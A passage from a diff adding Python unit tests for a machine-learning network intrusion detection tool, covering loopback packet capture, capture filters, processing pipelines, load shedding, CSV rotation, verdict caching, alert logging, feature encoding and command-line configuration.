+        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as receiver, \
+                socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
+            receiver.bind(('lo', 0x0003))
+            attach_program(receiver, internal_traffic_program())
+            receiver.settimeout(0.2)
+            sender.bind(('lo', 0))
+            for frame, _ in cases:
+                sender.send(frame)
+            seen = set()
+            try:
+                while True:
+                    frame = receiver.recv(65535)
+                    if marker in frame:
+                        seen.add(frame)
+            except socket.timeout:
+                pass
+        self.assertEqual(seen, {frame for frame, accepted in cases if accepted})
+
+
+class CaptureFilterTests(TestCase):
+    # A user filter that cannot be installed stops the capture instead of
+    # letting every packet through
+    def test_apply_filter_raises(self):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, \
+                mock.patch('scapy.arch.linux.attach_filter', side_effect=OSError('no libpcap')):
+            with self.assertRaisesRegex(ValueError, 'tcp port 80'):
+                apply_filter(sock, None, 'tcp port 80', exclude_internal=True)
+            apply_filter(sock, None, None, exclude_internal=True)  # the prebuilt program needs no libpcap
+
+    def test_cli_rejects_filter_at_startup(self):
+        with mock.patch.object(cli, 'compile_expression', side_effect=ValueError('bad filter')), \
+                mock.patch.object(cli, 'IntrusionDetectionSystem') as engine, \
+                mock.patch('sys.stderr'):
+            self.assertEqual(cli.main(['capture', '-i', 'lo', '-f', 'tcp port eighty']), 2)
+        engine.assert_not_called()
+
+
+@unittest.skipUnless(packet_sockets_allowed(), "needs CAP_NET_RAW")
+class PacketRingTests(TestCase):
+    # Receives real loopback traffic through the TPACKET_V3 ring
+    def send_udp(self, payloads):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver, \
+                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+            receiver.bind(('127.0.0.1', 0))
+            for payload in payloads:
+                sender.sendto(payload, receiver.getsockname())
+            return receiver.getsockname()[1]
+
+    def collect(self, ring, marker, expected, seconds=5.0):
+        # Dissected records whose payload carries `marker`
+        records = []
+        deadline = time.time() + seconds
+        while time.time() < deadline and len(records) < expected:
+            for frame, timestamp in ring.next_batch(timeout=0.1) or ():
+                record = dissect_frame(bytes(frame), timestamp)
+                if record is not None and marker in bytes(record.payload):
+                    records.append(record)
+        return records
+
+    def test_receives_udp(self):
+        marker = os.urandom(8).hex().encode()
+        with PacketRing('lo', block_size=1 << 16, block_count=8, block_timeout=10) as ring:
+            before = time.time()
+            port = self.send_udp([marker + bytes([index]) for index in range(20)])
+            records = self.collect(ring, marker, 20)
+        # lo hands packet sockets each datagram once or twice (outgoing and incoming)
+        self.assertGreaterEqual(len(records), 20)
+        self.assertEqual({bytes(record.payload)[-1] for record in records}, set(range(20)))
+        for record in records:
+            self.assertEqual((record.proto, record.src, record.dst, record.dport),
+                             (PROTO_UDP, '127.0.0.1', '127.0.0.1', port))
+            self.assertLess(abs(record.timestamp - before), 5.0)
+
+    def test_receives_tcp(self):
+        marker = os.urandom(8).hex().encode()
+        with PacketRing('lo', block_size=1 << 16, block_count=8, block_timeout=10) as ring, \
+                socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
+            server.bind(('127.0.0.1', 0))
+            server.listen(1)
+            port = server.getsockname()[1]
+            with socket.create_connection(('127.0.0.1', port)) as client:
+                connection, _ = server.accept()
+                client.sendall(marker)
+                connection.recv(len(marker))
+                connection.close()
+            records = self.collect(ring, marker, 1)
+        self.assertTrue(records)
+        self.assertEqual((records[0].proto, records[0].dport), (PROTO_TCP, port))
+        self.assertTrue(records[0].tcp_flags & 0x08)  # PSH
+
+    def test_sniff_ring_stops_and_reports(self):
+        marker = os.urandom(8).hex().encode()
+        seen = []
+
+        def keep(batch):
+            seen.extend(bytes(frame) for frame, _ in batch if marker in bytes(frame))
+
+        sender = threading.Timer(0.2, self.send_udp, ([marker] * 10,))
+        sender.start()
+        stats = sniff_ring('lo', keep, timeout=1.0, block_size=1 << 16, block_count=8, block_timeout=10)
+        sender.join()
+        self.assertGreaterEqual(len(seen), 10)
+        self.assertGreaterEqual(stats['packets'], len(seen))
+        self.assertEqual(stats['drops'], 0)
+
+
+class OrderedStageTests(TestCase):
+    def test_workers_forward_in_arrival_order(self):
+        received = []
+
+        def work(batch):
+            time.sleep(random.random() * 0.003)
+            return batch
+
+        sink = Stage('sink', received.extend, 1, 10000, 50)
+        pipeline = Pipeline([Stage('work', work, 4, 10000, 3, ordered=True), sink])
+        pipeline.start()
+        for n in range(600):
+            pipeline.put(n)
+        pipeline.stop()
+        self.assertEqual(received, list(range(600)))
+
+    def test_failed_batch_does_not_block_the_next(self):
+        received = []
+
+        def work(batch):
+            if 0 in batch:
+                raise ValueError('bad batch')
+            return batch
+
+        pipeline = Pipeline([Stage('work', work, 2, 100, 1, ordered=True), Stage('sink', received.extend)])
+        pipeline.start()
+        with self.assertLogs('ids_app.pipeline', 'ERROR'):
+            for n in range(5):
+                pipeline.put(n)
+            pipeline.stop()
+        self.assertEqual(received, [1, 2, 3, 4])
+
+
+class DetectionPipelineTests(TestCase):
+    # Whole IDS pipelines fed with frames instead of a capture
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.directory = tempfile.TemporaryDirectory()
+        cls.model_path = build_model(cls.directory.name)
+
+    @classmethod
+    def tearDownClass(cls):
+        shutdown_logging()
+        cls.directory.cleanup()
+        super().tearDownClass()
+
+    def make_ids(self, **kwargs):
+        csv_output = os.path.join(self.directory.name, f'traffic-{random.getrandbits(32):08x}.csv')
+        model_path = kwargs.pop('model_path', self.model_path)
+        ids = IntrusionDetectionSystem(model_path, FEATURE_NAMES_FILE, csv_output=csv_output,
+                                       log_file=os.path.join(self.directory.name, 'ids_log.txt'),
+                                       email_from_database=False, detect_internal=True, **kwargs)
+        return ids, csv_output
+
+    def run_frames(self, ids, frames):
+        ids.is_active = True
+        ids.start_pipeline()
+        for frame in frames:
+            ids.pipeline.put(frame)
+
+    def rows(self, csv_output):
+        with open(csv_output, newline='') as f:
+            return list(csv.reader(f))[1:]
+
+    def traffic(self):
+        frames = []
+        for n in range(20):
+            frames += http_frames(100.0 + n * 0.05, 40000 + n)
+        # Connections still open when detection stops
+        frames += [(tcp_frame(CLIENT, SERVER, 41000 + n, 22, 0x02), 102.0 + n * 0.01) for n in range(5)]
+        return frames
+
+    def stop_twice(self, ids):
+        stoppers = [threading.Thread(target=ids.stop_detection) for _ in range(2)]
+        for thread in stoppers:
+            thread.start()
+        for thread in stoppers:
+            thread.join()
+        ids.stop_detection()  # and once more after everything stopped
+
+    def test_concurrent_stops(self):
+        ids, csv_output = self.make_ids(emission='flow')
+        self.run_frames(ids, self.traffic())
+        self.stop_twice(ids)
+        self.assertIsNone(ids.pipeline)
+        self.assertIsNone(ids.record_writer)
+        self.assertEqual(len(self.rows(csv_output)), 25)  # every flow once, open ones flushed
+
+    def test_concurrent_stops_sharded(self):
+        ids, csv_output = self.make_ids(emission='flow', extraction_workers=2)
+        self.run_frames(ids, self.traffic())
+        self.stop_twice(ids)
+        self.assertIsNone(ids.sharded_extractor)
+        self.assertEqual(ids.shard_counters['frames'], len(self.traffic()))
+        self.assertEqual(len(self.rows(csv_output)), 25)
+
+    def test_dissect_workers_keep_packet_order(self):
+        def slow_dissect(frame, timestamp):
+            time.sleep(random.random() * 0.002)  # let the workers finish out of order
+            return dissect_frame(frame, timestamp)
+
+        results = []
+        for workers in (1, 4):
+            ids, csv_output = self.make_ids(dissect_workers=workers, batch_size=2, verdict_cache_size=0)
+            with mock.patch('ids_app.IDS.dissect_frame', slow_dissect):
+                self.run_frames(ids, self.traffic())
+                ids.stop_detection()
+            results.append(self.rows(csv_output))
+        self.assertEqual(len(results[0]), len(self.traffic()))
+        self.assertEqual(results[0], results[1])
+
+    def test_replay_capture_files(self):
+        # Connections one second apart in packet time, replayed as fast as possible
+        frames = []
+        for n in range(10):
+            frames += http_frames(1000.0 + n, 40000 + n)
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        captures = write_captures(directory.name, frames)
+
+        for path in captures:
+            read = list(iter_pcap(path, raw=True))
+            self.assertEqual([item[0] for item, _ in read], [frame for frame, _ in frames])
+            for (_, timestamp), (_, expected) in zip(read, frames):
+                self.assertAlmostEqual(timestamp, expected, places=6)
+
+        results = []
+        for path in captures:
+            for fast_path in (True, False):
+                ids, csv_output = self.make_ids(fast_path=fast_path)
+                ids.start_replay(path)
+                results.append(self.rows(csv_output))
+        self.assertEqual(len(results[0]), len(frames))
+        self.assertTrue(all(rows == results[0] for rows in results[1:]))
+        # The two second windows follow the packet clock: a wall clock would
+        # put all ten connections in one window
+        counts = [int(row[[name for name, _ in TRAFFIC_FIELDS].index('count')]) for row in results[0]]
+        self.assertEqual(max(counts), 2)
+
+    def test_batch_scoring_matches_single_rows(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        ids, _ = self.make_ids(model_path=build_model(directory.name, named=True), verdict_cache_size=0)
+        records = []
+        for n in range(20):
+            records += http_connection(100.0 + n * 0.05, 40000 + n) + rejected_connection(100.02 + n * 0.05, 41000 + n)
+        records.sort(key=lambda r: r.timestamp)
+        batch = [(features, None) for features in replay(NetworkFeatureExtractor(), records)]
+
+        with warnings.catch_warnings(record=True) as caught:
+            warnings.simplefilter('always')
+            ids.warm_up()
+            batched = ids.infer_batch(batch)
+            single = [ids.infer_batch([item])[0] for item in batch]
+        self.assertEqual([str(warning.message) for warning in caught], [])
+        self.assertEqual(len(set(prediction for _, _, prediction, _ in batched)), 2)
+        for (_, _, label, probabilities), (_, _, expected_label, expected) in zip(batched, single):
+            self.assertEqual(label, expected_label)
+            self.assertTrue(np.array_equal(probabilities, expected))
+
+    def test_reload_clears_verdict_cache(self):
+        ids, _ = self.make_ids()
+        features = {'src_ip': CLIENT, 'dst_ip': SERVER, 'src_port': 40000, 'dst_port': 80, 'protocol_type': 'tcp'}
+        _, key, signature = ids.verdict_cache.lookup(features)
+        ids.verdict_cache.store(key, signature, features, ('normal', None), 1.0)
+        ids.reload_model(self.model_path, FEATURE_NAMES_FILE)
+        self.assertEqual(ids.verdict_cache.stats()['size'], 0)
+        self.assertIsNone(ids.verdict_cache.lookup(features)[0])
+
+
+class OverloadManagerTests(TestCase):
+    # The stage has no workers, so the queue depth only changes when a test
+    # adds or removes items
+    def setUp(self):
+        self.stage = Stage('dissect', lambda batch: batch, queue_size=100)
+        self.manager = OverloadManager(self.stage, low_watermark=0.5, min_ratio=0.05)
+        self.offered = 0
+
+    def fill(self, depth):
+        while self.stage.queue.qsize() < depth:
+            self.stage.queue.put_nowait(('filler', 0.0))
+
+    def offer(self, frame):
+        # Offers a frame at a constant queue depth
+        self.offered += 1
+        admitted = self.manager.offer((frame, 0.0))
+        if admitted:
+            self.stage.queue.get_nowait()
+        return admitted
+
+    def flow(self, sport, flags=0x10):
+        return [tcp_frame(CLIENT, SERVER, sport, 80, flags, b'data'), tcp_frame(SERVER, CLIENT, 80, sport, flags)]
+
+    def assert_counted(self):
+        stats = self.manager.stats()
+        self.assertEqual(stats['admitted'] + sum(stats['dropped'].values()), self.offered)
+
+    def test_below_watermark_admits_everything(self):
+        self.fill(40)
+        self.assertTrue(all(self.offer(frame) for sport in range(40000, 40100) for frame in self.flow(sport)))
+        self.assertEqual(self.manager.sampling_ratio, 1.0)
+        self.assert_counted()
+
+    def test_sampling_keeps_or_sheds_whole_flows(self):
+        self.fill(80)
+        decisions = {}
+        for _ in range(3):
+            for sport in range(40000, 40400):
+                for frame in self.flow(sport):
+                    decisions.setdefault(sport, set()).add(self.offer(frame))
+        self.assertAlmostEqual(self.manager.sampling_ratio, 1.0 - 0.6 * 0.95)
+        self.assertTrue(all(len(kept) == 1 for kept in decisions.values()))  # both directions, every packet
+        kept = sum(True in kept for kept in decisions.values())
+        self.assertTrue(0.3 * 400 < kept < 0.55 * 400)
+        self.assertEqual(self.manager.stats()['dropped']['sampled'], 6 * (400 - kept))
+        self.assert_counted()
+
+    def test_connection_setup_and_teardown_bypass_shedding(self):
+        self.fill(95)
+        shed = [sport for sport in range(40000, 40200) if not self.offer(self.flow(sport)[0])]
+        self.assertTrue(shed)
+        for sport in shed:
+            for flags in (0x02, 0x12, 0x11, 0x04, 0x14):
+                self.assertTrue(self.offer(self.flow(sport, flags)[0]))
+        self.assert_counted()
+
+    def test_flagged_pairs_are_never_shed(self):
+        self.fill(99)
+        self.manager.flag(SERVER, CLIENT)
+        self.assertTrue(all(self.offer(frame) for sport in range(40000, 40200) for frame in self.flow(sport)))
+        other = [tcp_frame('192.0.2.1', SERVER, sport, 80, 0x10) for sport in range(40000, 40200)]
+        self.assertFalse(all(self.offer(frame) for frame in other))  # unflagged hosts are still sampled
+        self.assertEqual(self.manager.stats()['flagged_host_pairs'], 1)
+        self.assert_counted()
+
+    def test_every_drop_is_counted(self):
+        self.fill(90)
+        self.assertFalse(self.offer(b'\x00' * 5))
+        self.fill(100)
+        self.assertFalse(self.offer(self.flow(40000, 0x02)[0]))  # bypasses sampling, but there is no room
+        dropped = self.manager.stats()['dropped']
+        self.assertEqual((dropped['unparsed'], dropped['queue_full']), (1, 1))
+        self.assertEqual(self.stage.dropped, 1)
+        self.assert_counted()
+
+
+def wait_for(condition, timeout=5.0):
+    deadline = time.monotonic() + timeout
+    while not condition():
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.01)
+    return True
+
+
+class RotatingCSVWriterTests(TestCase):
+    def setUp(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        self.directory = directory.name
+        self.path = os.path.join(directory.name, 'traffic.csv')
+
+    def writer(self, **kwargs):
+        writer = RotatingCSVWriter(self.path, ['index', 'label'], **kwargs)
+        writer.start()
+        self.addCleanup(writer.close)
+        return writer
+
+    def lines(self, path=None):
+        opener = gzip.open if (path or '').endswith('.gz') else open
+        with opener(path or self.path, 'rt', newline='') as f:
+            return list(csv.reader(f))
+
+    def segments(self, pattern='traffic-*.csv*'):
+        return sorted(glob.glob(os.path.join(self.directory, pattern)))
+
+    def test_batches_flush_on_interval(self):
+        writer = self.writer(flush_rows=1000, flush_interval=0.2)
+        started = time.monotonic()
+        for index in range(10):
+            writer.write([index, 'normal'])
+        self.assertEqual(self.lines(), [['index', 'label']])  # below flush_rows, still queued
+        self.assertTrue(wait_for(lambda: len(self.lines()) == 11))
+        self.assertGreaterEqual(time.monotonic() - started, 0.15)
+        self.assertEqual(writer.written, 10)
+
+    def test_rotates_by_size(self):
+        writer = self.writer(max_bytes=200, flush_rows=1, flush_interval=10.0)
+        for index in range(100):
+            writer.write([index, 'normal'])
+        writer.close()
+
+        segments = self.segments()
+        self.assertGreater(len(segments), 1)
+        rows = []
+        for segment in sorted(segments, key=os.path.getmtime) + [self.path]:
+            lines = self.lines(segment)
+            self.assertEqual(lines[0], ['index', 'label'])
+            rows += [int(index) for index, _ in lines[1:]]
+            if segment != self.path:
+                self.assertLess(os.path.getsize(segment), 200 + 20)
+        self.assertEqual(rows, list(range(100)))
+
+    def test_rotates_by_age(self):
+        writer = self.writer(max_age=0.2, flush_interval=0.05)
+        writer.write([0, 'normal'])
+        self.assertTrue(wait_for(lambda: self.segments()))
+        self.assertEqual(self.lines(self.segments()[0]), [['index', 'label'], ['0', 'normal']])
+        self.assertEqual(self.lines()[0], ['index', 'label'])
+
+    def test_compresses_and_prunes_rotated_segments(self):
+        writer = self.writer(max_bytes=100, compress=True, backup_count=2, flush_rows=1, flush_interval=10.0)
+        for index in range(60):
+            writer.write([index, 'normal'])
+        writer.close()
+
+        def settled():
+            segments = self.segments()
+            return len(segments) == 2 and all(segment.endswith('.gz') for segment in segments)
+        self.assertTrue(wait_for(settled))
+        for segment in self.segments():
+            self.assertEqual(self.lines(segment)[0], ['index', 'label'])
+        self.assertEqual(self.lines()[-1], ['59', 'normal'])
+
+    def test_appends_on_restart_without_second_header(self):
+        writer = self.writer()
+        writer.write([0, 'normal'])
+        writer.close()
+        writer = self.writer()
+        writer.write([1, 'anomaly'])
+        writer.close()
+        self.assertEqual(self.lines(), [['index', 'label'], ['0', 'normal'], ['1', 'anomaly']])
+
+
+class VerdictCacheTests(TestCase):
+    def setUp(self):
+        self.cache = VerdictCache([name for name, _ in TRAFFIC_FIELDS], max_size=3, rescore_packets=5,
+                                  rescore_interval=10.0)
+
+    def features(self, sport=40000, timestamp=100.0, **values):
+        features = {'src_ip': CLIENT, 'dst_ip': SERVER, 'src_port': sport, 'dst_port': 80, 'protocol_type': 'tcp',
+                    'service': 'http', 'flag': 'SF', 'src_bytes': 1000, 'count': 3, 'same_srv_rate': 0.9,
+                    'timestamp': timestamp}
+        features.update(values)
+        return features
+
+    def score(self, features, label='normal', confidence=0.99):
+        # A lookup followed by the store() that the IDS does after a miss
+        verdict, key, signature = self.cache.lookup(features)
+        if verdict is None:
+            self.cache.store(key, signature, features, (label, confidence), confidence)
+        return verdict
+
+    def test_confident_normal_verdict_is_a_hit(self):
+        self.assertIsNone(self.score(self.features()))
+        self.assertEqual(self.score(self.features(timestamp=101.0)), ('normal', 0.99))
+        self.assertEqual((self.cache.hits, self.cache.misses), (1, 1))
+
+    def test_anomalies_and_unsure_verdicts_are_not_cached(self):
+        self.score(self.features(), label='anomaly')
+        self.assertIsNone(self.score(self.features(40001), confidence=0.5))
+        self.assertIsNone(self.cache.lookup(self.features())[0])
+        self.assertIsNone(self.cache.lookup(self.features(40001))[0])
+        self.assertEqual(self.cache.stats()['size'], 0)
+
+        # A flow that turns anomalous loses its cached verdict
+        self.score(self.features(40002))
+        _, key, signature = self.cache.lookup(self.features(40002, src_bytes=1500))
+        self.cache.store(key, signature, self.features(40002), ('anomaly', 0.99), 0.99)
+        self.assertIsNone(self.cache.lookup(self.features(40002))[0])
+
+    def test_rescored_after_rescore_packets(self):
+        self.score(self.features())
+        hits = [self.score(self.features()) is not None for _ in range(6)]
+        self.assertEqual(hits, [True] * 5 + [False])
+
+    def test_rescored_after_rescore_interval(self):
+        self.score(self.features())
+        self.assertIsNotNone(self.score(self.features(timestamp=109.9)))
+        self.assertIsNone(self.score(self.features(timestamp=110.0)))
+        self.assertIsNotNone(self.score(self.features(timestamp=110.5)))  # scored again at 110.0
+
+    def test_signature_bucket_change_is_a_miss(self):
+        self.score(self.features())
+        # Same log2 and rate buckets
+        self.assertIsNotNone(self.score(self.features(src_bytes=1023, count=2, same_srv_rate=0.95)))
+        self.assertIsNone(self.score(self.features(src_bytes=1024)))
+        self.assertIsNone(self.score(self.features(src_bytes=1024, same_srv_rate=0.85)))
+        self.assertIsNone(self.score(self.features(src_bytes=1024, same_srv_rate=0.85, flag='RSTO')))
+
+    def test_least_recently_used_flow_is_evicted(self):
+        for sport in (40000, 40001, 40002):
+            self.score(self.features(sport))
+        self.score(self.features(40000))  # now the most recently used
+        self.score(self.features(40003))
+        self.assertEqual(self.cache.evictions, 1)
+        self.assertIsNone(self.cache.lookup(self.features(40001))[0])
+        for sport in (40000, 40002, 40003):
+            self.assertIsNotNone(self.cache.lookup(self.features(sport))[0])
+
+
+class EventLogTests(TestCase):
+    def setUp(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        self.log_file = os.path.join(directory.name, 'ids_log.txt')
+        self.addCleanup(shutdown_logging)
+        self.logger = logging.getLogger('ids_app.tests')
+
+    def queue_handlers(self):
+        return [handler for handler in logging.getLogger().handlers if isinstance(handler, DroppingQueueHandler)]
+
+    def lines(self):
+        with open(self.log_file) as f:
+            return f.read().splitlines()
+
+    def test_configuring_twice_adds_no_handler(self):
+        handler = configure_logging(self.log_file)
+        self.assertIs(configure_logging(self.log_file), handler)
+        self.assertEqual(self.queue_handlers(), [handler])
+
+        other = configure_logging(self.log_file + '.2')  # replaces the first setup
+        self.assertEqual(self.queue_handlers(), [other])
+        self.logger.info("only once")
+        shutdown_logging()
+        self.assertEqual(self.queue_handlers(), [])
+        with open(self.log_file + '.2') as f:
+            self.assertEqual(f.read().count("only once"), 1)
+
+    def test_alerts_are_json_lines(self):
+        configure_logging(self.log_file)
+        ids = SimpleNamespace(logger=self.logger, alert_dispatcher=None)
+        features = {'src_ip': CLIENT, 'dst_ip': SERVER, 'protocol_type': 'tcp', 'service': 'http', 'src_bytes': 42,
+                    'land': 0}
+        IntrusionDetectionSystem.log_intrusion(ids, None, features, 0.9)
+        self.logger.info("Normal traffic detected")
+        shutdown_logging()
+
+        alert_line, normal_line = self.lines()
+        alert = json.loads(alert_line)
+        self.assertEqual(set(alert), {'time', 'level', 'message', 'event', 'severity', 'src_ip', 'dst_ip', 'protocol',
+                                      'service', 'confidence', 'features'})
+        self.assertEqual((alert['event'], alert['level'], alert['severity']), ('alert', 'WARNING', 'HIGH'))
+        self.assertEqual((alert['src_ip'], alert['dst_ip'], alert['confidence']), (CLIENT, SERVER, 0.9))
+        self.assertEqual(alert['features'], {'protocol_type': 'tcp', 'service': 'http', 'src_bytes': 42})
+        self.assertTrue(normal_line.endswith(' - INFO - Normal traffic detected'))
+
+    def test_rate_limiter(self):
+        clock = [1000.0]
+        with mock.patch('ids_app.event_log.time.monotonic', lambda: clock[0]):
+            limiter = RateLimiter(10)
+            self.assertEqual(sum(limiter.allow() for _ in range(15)), 10)  # the burst
+            clock[0] += 1.0
+            self.assertEqual(sum(limiter.allow() for _ in range(15)), 10)
+            clock[0] += 0.5
+            self.assertEqual(sum(limiter.allow() for _ in range(15)), 5)
+            self.assertEqual(limiter.suppressed, 5 + 5 + 10)
+        self.assertTrue(all(RateLimiter(None).allow() for _ in range(100)))
+        self.assertFalse(RateLimiter(0).allow())
+
+    def test_stop_flushes_the_queue(self):
+        configure_logging(self.log_file)
+        for index in range(2000):
+            self.logger.info("record %d", index)
+        shutdown_logging()
+        lines = self.lines()
+        self.assertEqual(len(lines), 2000)
+        self.assertTrue(lines[-1].endswith('record 1999'))
+
+
+class FeatureEncoderTests(TestCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.names = load_feature_names(FEATURE_NAMES_FILE)
+        cls.encoder = FeatureEncoder(cls.names)
+
+    def hot(self, row):
+        # Names of the one-hot columns set in an encoded row
+        return sorted(name for name, value in zip(self.names, row)
+                      if value and name.startswith(('protocol_type_', 'service_', 'flag_')))
+
+    def test_numeric_columns_follow_feature_names(self):
+        features = {name: index + 0.5 for index, name in enumerate(self.encoder.numeric_names)}
+        row = self.encoder.encode([features])[0]
+        for name in self.encoder.numeric_names:
+            self.assertEqual(row[self.names.index(name)], features[name])
+
+        # Numeric columns split by one-hot ones take the fancy indexing path
+        encoder = FeatureEncoder(['duration', 'service_http', 'src_bytes', 'flag_SF', 'count'])
+        self.assertIsNone(encoder.numeric_slice)
+        self.assertEqual(encoder.encode([{'duration': 1, 'src_bytes': 2, 'count': 3, 'service': 'http'}]).tolist(),
+                         [[1, 1, 2, 0, 3]])
+
+    def test_one_hot_columns(self):
+        row = self.encoder.encode([{'protocol_type': 'tcp', 'service': 'ssh', 'flag': 'S0'}])[0]
+        self.assertEqual(self.hot(row), ['flag_S0', 'protocol_type_tcp', 'service_ssh'])
+        self.assertEqual(row.sum(), 3.0)
+
+    def test_service_aliases(self):
+        for protocol, service, column in (('tcp', 'https', 'service_http_443'), ('tcp', 'pop3', 'service_pop_3'),
+                                          ('tcp', 'imap', 'service_imap4'), ('udp', 'domain', 'service_domain_u'),
+                                          ('tcp', 'domain', 'service_domain')):
+            row = self.encoder.encode([{'protocol_type': protocol, 'service': service, 'flag': 'SF'}])[0]
+            self.assertEqual(self.hot(row), ['flag_SF', 'protocol_type_' + protocol, column])
+
+    def test_unknown_values_fall_back_to_other(self):
+        row = self.encoder.encode([{'protocol_type': 'tcp', 'service': 'gopher_v9', 'flag': 'SF'}])[0]
+        self.assertEqual(self.hot(row), ['flag_SF', 'protocol_type_tcp', 'service_other'])
+        # The shipped model has no flag_other column, so an unknown flag stays all zero
+        row = self.encoder.encode([{'protocol_type': 'tcp', 'service': 'http', 'flag': 'XX'}])[0]
+        self.assertEqual(self.hot(row), ['protocol_type_tcp', 'service_http'])
+
+        encoder = FeatureEncoder(['flag_SF', 'flag_other'])
+        self.assertEqual(encoder.encode([{'flag': 'XX'}, {'flag': 'SF'}, {}]).tolist(), [[0, 1], [1, 0], [0, 0]])
+
+    def test_numeric_parity_with_row_lists(self):
+        extractor = NetworkFeatureExtractor()
+        records = []
+        for n in range(30):
+            records += http_connection(100.0 + n * 0.05, 40000 + n) + rejected_connection(100.02 + n * 0.05, 41000 + n)
+        batch = [features for features in replay(extractor, sorted(records, key=lambda r: r.timestamp)) if features]
+        self.assertEqual(len(batch), len(records))
+
+        matrix = self.encoder.encode(batch, out=np.full((len(batch) + 5, len(self.names)), 7.0, dtype=np.float32))
+        self.assertEqual(matrix.shape, (len(batch), len(self.names)))
+        expected = np.array([[features.get(name, 0) for name in self.names] for features in batch], dtype=object)
+        for column, name in enumerate(self.names):
+            if name in self.encoder.numeric_names:
+                self.assertEqual(matrix[:, column].tolist(), expected[:, column].astype(np.float32).tolist(), name)
+        self.assertTrue(all(len(self.hot(row)) == 3 for row in matrix))
+
+
+class CommandLineTests(TestCase):
+    def setUp(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        self.addCleanup(shutdown_logging)
+        self.directory = directory.name
+        self.config = os.path.join(directory.name, 'ids.ini')
+        self.write_config(batch_size=50)
+
+    def write_config(self, **engine):
+        settings = {'emission': 'flow', 'detect_internal': 'yes', 'log_file': os.path.join(self.directory, 'ids.log'),
+                    'csv_output': os.path.join(self.directory, 'traffic.csv')}
+        settings.update(engine)
+        with open(self.config, 'w') as f:
+            f.write('[ids]\n' + ''.join(f'{name} = {value}\n' for name, value in settings.items()))
+            f.write('[smtp]\nserver = smtp.example.org\nsender = ids@example.org\nrecipient = admin@example.org\n')
+
+    def settings(self, *flags):
+        return cli.engine_settings(cli.build_parser().parse_args(['replay', 'in.pcap', '-c', self.config, *flags]))
+
+    def test_flags_override_the_config_file(self):
+        engine, smtp = self.settings()
+        self.assertEqual((engine['batch_size'], engine['emission'], engine['detect_internal']), (50, 'flow', True))
+        self.assertEqual((engine['model_path'], engine['feature_names_path']), (cli.MODEL_FILE, cli.FEATURE_NAMES_FILE))
+        self.assertEqual((smtp.server, smtp.port, smtp.starttls), ('smtp.example.org', 587, True))
+
+        engine, smtp = self.settings('--batch-size', '7', '--emission', 'packet', '--model', 'other.npz', '--no-email')
+        self.assertEqual((engine['batch_size'], engine['emission'], engine['model_path']), (7, 'packet', 'other.npz'))
+        self.assertTrue(engine['detect_internal'])  # flag not given
+        self.assertIsNone(smtp)
+
+    def test_config_errors(self):
+        self.write_config(batch_sise=50)
+        with self.assertRaisesRegex(ValueError, 'batch_sise'):
+            self.settings()
+        self.write_config(detect_internal='maybe')
+        with self.assertRaisesRegex(ValueError, 'detect_internal'):
+            self.settings()
+        with self.assertRaises(FileNotFoundError):
+            cli.read_config(os.path.join(self.directory, 'missing.ini'))
+
+    def test_score_csv(self):
+        model = load_model(build_model(self.directory))
+        encoder = FeatureEncoder(load_feature_names(FEATURE_NAMES_FILE))
+        records = []
+        for n in range(10):
+            records += http_connection(100.0 + n * 0.05, 40000 + n) + rejected_connection(100.02 + n * 0.05, 41000 + n)
+        batch = [features for features in replay(NetworkFeatureExtractor(), sorted(records, key=lambda r: r.timestamp))
+                 if features]
+        fields = [name for name, _ in TRAFFIC_FIELDS]
+        source = io.StringIO()
+        writer = csv.writer(source)
+        writer.writerow(fields + ['class'])
+        writer.writerows([features.get(name, default) for name, default in TRAFFIC_FIELDS] + ['normal']
+                         for features in batch)
+        source.seek(0)
+
+        output = io.StringIO()
+        counts = cli.score_csv(source, output, model, encoder, batch_size=7)
+        rows = list(csv.reader(io.StringIO(output.getvalue())))
+        self.assertEqual(rows[0], fields + ['class', 'prediction', 'confidence'])
+        self.assertEqual(len(rows), len(batch) + 1)
+
+        probabilities = model.predict_proba(encoder.encode(
+            [{name: float(value) if name in encoder.numeric_names else value for name, value in zip(fields, row)}
+             for row in rows[1:]]))
+        labels = model.classes_[probabilities.argmax(axis=1)]
+        self.assertEqual([row[-2] for row in rows[1:]], labels.tolist())
+        self.assertEqual([float(row[-1]) for row in rows[1:]], [round(float(p), 4) for p in probabilities.max(axis=1)])
+        self.assertEqual(counts, {str(label): list(labels).count(label) for label in set(labels)})
+        self.assertEqual(sum(counts.values()), len(batch))
+
+    def test_stop_signal_sets_stop_flag(self):
+        ids = SimpleNamespace(logger=logging.getLogger('ids_app.tests'), stop_flag=threading.Event())
+        cli.SignalHandler(ids, None, {}).stop(signal.SIGTERM, None)
+        self.assertTrue(ids.stop_flag.is_set())
+
+    def test_reload_swaps_model_and_reports_restart_settings(self):
+        os.makedirs(os.path.join(self.directory, 'new'))
+        self.write_config(model_path=build_model(self.directory), batch_size=50)
+        args = cli.build_parser().parse_args(['replay', 'in.pcap', '-c', self.config, '--no-email'])
+        engine = cli.absolute_paths(cli.engine_settings(args)[0])
+        ids = IntrusionDetectionSystem(email_from_database=False, **engine)
+        handler = cli.SignalHandler(ids, args, engine)
+        model = ids.model
+
+        new_model = build_model(os.path.join(self.directory, 'new'))
+        self.write_config(model_path=new_model, batch_size=10, emission='packet')
+        with self.assertLogs(ids.logger, 'WARNING') as logs:
+            handler._reload()
+        self.assertIsNot(ids.model, model)
+        self.assertEqual(handler.engine['model_path'], new_model)
+        self.assertEqual(handler.engine['batch_size'], 50)  # still the running value
+        self.assertEqual(logs.output[-1].split(': ', 1)[1], 'batch_size, emission')
+
+
+class PacketDissectorTests(TestCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        from scapy.layers.dns import DNS, DNSQR
